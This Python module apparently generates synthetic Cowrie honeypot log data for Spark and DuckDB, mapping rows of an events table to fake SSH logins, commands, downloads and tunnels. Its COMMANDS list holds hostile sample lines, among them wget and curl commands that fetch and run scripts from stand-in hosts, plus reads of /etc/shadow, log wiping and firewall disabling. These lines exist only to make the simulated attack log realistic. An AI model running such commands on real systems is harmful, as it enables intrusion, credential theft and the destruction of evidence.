"""A honeypot log derived from the ``events`` table: the same formulas for Spark and for DuckDB.

Each row of events becomes one log event, its fields chosen by the number in ``props`` and the user.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from siltstream.operators import sessions as S

USERS = ["root", "admin", "deploy", "oracle", "nobody"]
PASSWORDS = ["123456", "admin", "password", "letmein", "qwerty"]
CLIENTS = ["SSH-2.0-Go", "SSH-2.0-libssh2_1.10.0", "SSH-2.0-OpenSSH_9.6"]
HOSTS = ["evil.example", "203.0.114.9:8080", "cdn.bad-host.net", "raw.github.com"]
COMMANDS = [
    "uname -a", "whoami", "cat /etc/passwd", "wget http://203.0.114.9/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "cat /proc/cpuinfo", "ls -la /tmp", "ps aux | grep ssh", "ifconfig eth0", "history -c",
    "curl -s http://evil.example/p.sh | sh", "rm -rf /var/log/wtmp", "echo ok", "netstat -an",
    "crontab -l", "sudo id", "nproc", "free -m", "exit", "cat /etc/shadow", "systemctl stop firewalld",
    "chattr -i /root/.ssh/authorized_keys", "w", "dmesg | grep -i virtual",
]


#: Local IPv4 networks as a pattern, for DuckDB.
LOCAL = r"^(0|10|127)\.|^100\.(6[4-9]|[7-9][0-9]|1[01][0-9]|12[0-7])\.|^169\.254\.|^172\.(1[6-9]|2[0-9]|3[01])\.|^192\.168\."


def _fields(spark: bool) -> dict[str, str]:
    pick = (lambda xs, by: f"element_at(array({xs}), cast({by} as int) + 1)") if spark else (lambda xs, by: f"[{xs}][{by} + 1]")
    quoted = lambda xs: ", ".join(f"'{x}'" for x in xs)
    sha = (lambda x: f"sha2({x}, 256)") if spark else (lambda x: f"sha256({x})")
    day = "date_format(ts, 'yyyyMMdd')" if spark else "strftime(ts, '%Y%m%d')"
    case = lambda kind, x: f"CASE WHEN eventid = '{kind}' THEN {x} END"
    address = lambda first: f"concat({first}, '.', cast(u * 7 % 256 as string), '.', cast(u * 13 % 256 as string), '.', cast(1 + u % 250 as string))".replace("string", "string" if spark else "varchar")
    text = "string" if spark else "varchar"
    down, up, tunnel, command = "cowrie.session.file_download", "cowrie.session.file_upload", "cowrie.direct-tcpip.request", "cowrie.command.input"
    login = "eventid IN ('cowrie.login.failed', 'cowrie.login.success')"
    return {
        "eventid": f"""CASE event_type WHEN 'error' THEN 'cowrie.login.failed' WHEN 'signup' THEN 'cowrie.login.success'
            WHEN 'click' THEN '{command}'
            WHEN 'purchase' THEN CASE WHEN k < 50 THEN '{down}' WHEN k < 80 THEN '{up}' ELSE '{tunnel}' END
            ELSE CASE WHEN k < 30 THEN 'cowrie.client.version' WHEN k < 60 THEN 'cowrie.client.kex' WHEN k < 80 THEN 'cowrie.session.closed' ELSE 'cowrie.session.connect' END END""",
        "session": f"concat('u', cast(u as {text}), '-', {day})",
        "src_ip": f"CASE WHEN u % 29 = 0 THEN NULL WHEN u % 25 = 0 THEN {address(chr(39) + '10' + chr(39))} ELSE {address(f'cast(11 + u % 180 as {text})')} END",
        "username": f"CASE WHEN {login} THEN {pick(quoted(USERS), 'k % 5')} END",
        "password": f"CASE WHEN {login} THEN {pick(quoted(PASSWORDS), 'k % 5')} END",
        "input": case(command, pick(quoted(COMMANDS), f"k % {len(COMMANDS)}")),
        "url": case(down, f"concat('http://', {pick(quoted(HOSTS), 'k % 4')}, '/f', cast(k as {text}), '-', cast(u % 17 as {text}))"),
        "shasum": f"CASE WHEN eventid IN ('{down}', '{up}') THEN {sha(f'concat({chr(39)}f{chr(39)}, cast(k as {text}), {chr(39)}-{chr(39)}, cast(u % 17 as {text}))')} END",
        "filename": case(up, f"concat('f', cast(k % 10 as {text}))"),
        "destfile": case(up, "'/tmp/x'"),
        "dst_ip": case(tunnel, f"concat('198.51.100.', cast(k % 6 as {text}))"),
        "dst_port": case(tunnel, "cast(20 + k % 9 as int)"),
        "orig_ip": case(tunnel, "'127.0.0.1'"),
        "orig_port": case(tunnel, "cast(1000 + k as int)"),
        "version": case("cowrie.client.version", pick(quoted(CLIENTS), "k % 3")),
        "hassh": case("cowrie.client.kex", f"substr({sha(f'concat({chr(39)}h{chr(39)}, cast(u % 7 as {text}))')}, 1, 32)"),
        "duration_ms": case("cowrie.session.closed", "cast(k * 1000 as bigint)"),
    }


def bound_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The log's events: ``ord`` is their order of arrival."""
    e = spark.read.parquet(f"{sf_dir}/events.parquet")
    e = e.select(F.col("event_id").alias("ord"), "ts", F.col("user_id").alias("u"), "event_type", F.expr("cast(regexp_extract(props, '([0-9]+)', 1) as int)").alias("k"))
    fields = _fields(True)
    e = e.withColumn("eventid", F.expr(fields.pop("eventid")))
    return e.select("ord", "ts", "eventid", *[F.expr(x).alias(n) for n, x in fields.items()])


def bound_tables(spark: SparkSession, sf_dir: str) -> dict[str, DataFrame]:
    """sessions, logins, commands, downloads, uploads, tunnels of the derived log."""
    return S.store_events(bound_events(spark, sf_dir))


def geo(spark: SparkSession, sf_dir: str) -> DataFrame:
    """ip_geo of the derived log: a nation is a country, its region the region; every ninth address is unknown."""
    ips = bound_events(spark, sf_dir).select("src_ip").where("src_ip is not null").distinct().withColumn("n", F.expr("cast(split(src_ip, '[.]')[3] as int) % 25"))
    nation, region = (spark.read.parquet(f"{sf_dir}/{t}.parquet") for t in ("nation", "region"))
    g = ips.join(F.broadcast(nation), F.col("n") == F.col("n_nationkey")).join(F.broadcast(region), F.col("n_regionkey") == F.col("r_regionkey"))
    return g.where("n % 9 <> 8").select(
        F.col("src_ip").alias("ip"), F.expr("concat('C', cast(n as string))").alias("country_code"), F.col("n_name").alias("country_name"),
        F.expr("case when n % 4 <> 3 then concat('City ', cast(n as string)) end").alias("city"), F.col("r_name").alias("region"),
        F.expr("cast(n * 7 - 90 as double)").alias("latitude"), F.expr("cast(n * 14 - 180 as double)").alias("longitude"),
        F.expr("64500 + n % 8").alias("asn"), F.expr("concat('Org ', cast(n % 8 as string))").alias("as_org"),
    )


def intel(spark: SparkSession, sf_dir: str) -> DataFrame:
    """ip_intel of the derived log: an abuse score for two of three addresses, exit flags for half."""
    ips = bound_events(spark, sf_dir).select("src_ip").where("src_ip is not null").distinct().withColumn("n", F.expr("cast(split(src_ip, '[.]')[3] as int)"))
    abuse = ips.where("n % 3 <> 0").select(F.col("src_ip").alias("ip"), F.lit("abuseipdb").alias("provider"), F.expr("timestamp_ntz'2024-01-20 00:00:00' - make_interval(0, 0, 0, n % 20)").alias("fetched_at"), F.expr("n % 101").alias("score"), F.lit(None).cast("boolean").alias("flagged"))
    tor = ips.where("n % 2 = 0").select(F.col("src_ip").alias("ip"), F.lit("tor").alias("provider"), F.expr("timestamp_ntz'2024-01-20 00:00:00'").alias("fetched_at"), F.lit(None).cast("int").alias("score"), F.expr("n % 10 = 0").alias("flagged"))
    return abuse.unionByName(tor)


def _cte(capped: bool = True) -> str:
    fields = _fields(False)
    eventid = fields.pop("eventid")
    own = ", ".join(f"{x} AS {n}" for n, x in fields.items())
    local = f"regexp_matches(src_ip, '{LOCAL}')"
    kinds = {
        "logins": ("username, password, eventid = 'cowrie.login.success' AS success", "eventid IN ('cowrie.login.failed', 'cowrie.login.success')", 500, "username, password, success"),
        "commands": ("input AS command", "eventid = 'cowrie.command.input'", 2000, "command"),
        "downloads": ("url, shasum AS sha256", "eventid = 'cowrie.session.file_download' AND url <> ''", 200, "url, sha256"),
        "uploads": ("filename, destfile AS destination, shasum AS sha256", "eventid = 'cowrie.session.file_upload'", 200, "filename, sha256"),
        "tunnels": ("dst_ip, dst_port, orig_ip, orig_port", "eventid = 'cowrie.direct-tcpip.request'", 200, "dst_ip, dst_port, orig_ip, orig_port"),
    }
    children = "".join(
        f""",
{name} AS (SELECT * EXCLUDE (rn, again) FROM (SELECT *, row_number() OVER (PARTITION BY session_id, ts, {key} ORDER BY ord) again FROM (
  SELECT session AS session_id, ord, ts, {what}, row_number() OVER (PARTITION BY session ORDER BY ord) rn FROM ev WHERE {where}){f" WHERE rn <= {cap}" if capped else ""}) WHERE again = 1)"""
        for name, (what, where, cap, key) in kinds.items()
    )
    return f"""WITH ev0 AS (SELECT event_id AS ord, ts, user_id AS u, event_type, cast(regexp_extract(props, '([0-9]+)', 1) AS int) AS k FROM events),
ev1 AS (SELECT *, {eventid} AS eventid FROM ev0),
ev AS (SELECT ord, ts, eventid, {own} FROM ev1),
sessions AS (SELECT session AS id, arg_min(src_ip, ord) FILTER (WHERE src_ip IS NOT NULL) AS src_ip, arg_min(ts, ord) AS start_time,
  arg_max(ts, ord) FILTER (WHERE eventid = 'cowrie.session.closed') AS end_time, arg_max(duration_ms, ord) FILTER (WHERE eventid = 'cowrie.session.closed') AS duration_ms,
  arg_max(version, ord) FILTER (WHERE eventid = 'cowrie.client.version') AS client_version, arg_max(hassh, ord) FILTER (WHERE eventid = 'cowrie.client.kex') AS hassh,
  coalesce(bool_or({local}), false) AS internal FROM ev GROUP BY session){children},
ips AS (SELECT DISTINCT src_ip, cast(string_split(src_ip, '.')[4] AS int) AS o FROM ev WHERE src_ip IS NOT NULL),
ip_geo AS (SELECT src_ip AS ip, concat('C', cast(o % 25 AS varchar)) AS country_code, n_name AS country_name, CASE WHEN o % 25 % 4 <> 3 THEN concat('City ', cast(o % 25 AS varchar)) END AS city,
  r_name AS region, cast(o % 25 * 7 - 90 AS double) AS latitude, cast(o % 25 * 14 - 180 AS double) AS longitude, 64500 + o % 25 % 8 AS asn, concat('Org ', cast(o % 25 % 8 AS varchar)) AS as_org
  FROM ips JOIN nation ON o % 25 = n_nationkey JOIN region ON n_regionkey = r_regionkey WHERE o % 25 % 9 <> 8),
abuse AS (SELECT src_ip AS ip, o % 101 AS score, TIMESTAMP '2024-01-20' - to_days(cast(o % 20 AS int)) AS fetched_at FROM ips WHERE o % 3 <> 0),
tor AS (SELECT src_ip AS ip, o % 10 = 0 AS flagged FROM ips WHERE o % 2 = 0),
real AS (SELECT * FROM sessions WHERE NOT internal)"""


#: Common table expressions with the derived log's tables, for DuckDB.
CTE = _cte()

#: The same with all rows of each session in the child tables, however many.
WHOLE = _cte(capped=False)
